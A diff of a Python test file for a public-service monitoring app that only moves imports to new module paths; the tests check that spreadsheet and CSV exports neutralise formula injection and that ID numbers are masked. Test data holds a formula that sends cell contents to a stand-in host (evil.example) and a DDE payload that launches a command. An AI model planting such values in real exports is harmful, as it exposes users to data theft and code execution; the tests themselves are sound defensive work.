@@ -67,7 +67,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
 def test_cells_starting_like_a_formula_become_text():
-    from monitor.cells import safe_cell
+    from monitor.services.cells import safe_cell
     assert [safe_cell(v) for v in ("=1+1", "+7 701", "-2", "@SUM(A1)", "\tx", "ok", 5, -3.5, None)] == \
         ["'=1+1", "'+7 701", "'-2", "'@SUM(A1)", "'\tx", "ok", 5, -3.5, None]
 
@@ -78,7 +78,7 @@ def test_report_and_findings_exports_hold_no_formulas(app, people, client, login
     import openpyxl
     import pandas as pd
 
-    from monitor.synthetic import generate_visits
+    from monitor.tools.synthetic import generate_visits
     frame = generate_visits(load_catalog(loaded_catalog), visits=400, start=dt.date(2026, 3, 16), days=5,
                             offices=["OF1"], breach_rate=0.3)
     frame["staff_id"] = FORMULA
@@ -101,7 +101,7 @@ def test_report_and_findings_exports_hold_no_formulas(app, people, client, login
 
 
 def test_the_public_catalog_csv_holds_no_formulas(app, client, tmp_path):
-    from monitor.catalog_store import store_catalog
+    from monitor.stores.catalog import store_catalog
     folder = write_catalog(tmp_path / "catalog", services=[
         service("S1", name={"kk": "=cmd|' /C calc'!A0", "ru": "@SUM(1+1)", "en": "+1 service"})])
     store_catalog(db.session, load_catalog(folder))
@@ -210,7 +210,7 @@ def test_iins_are_masked_in_rejects_and_cli_messages(app, loaded_catalog, tmp_pa
 
 
 def test_mask_iins_keeps_other_numbers():
-    from monitor.privacy import mask_iins
+    from monitor.compliance.applicants import mask_iins
     assert mask_iins("ref 900101300017, phone 87010000000, id 1234567890123") == \
         "ref ********0017, phone 87010000000, id 1234567890123"
 
@@ -280,7 +280,7 @@ def test_a_case_numbered_none_does_not_open_with_code_none(client, loaded_catalo
     response = client.post("/status?lang=en", data={"case_number": "none", "check_code": "none"})
     assert response.status_code == 200
     assert '<section id="status">' not in response.get_data(as_text=True)
-    from monitor import citizens
+    from monitor.services import citizens
     import datetime as dt
     assert citizens.case_status(db.session, "none", "none", dt.datetime.now(dt.timezone.utc)) is None
 
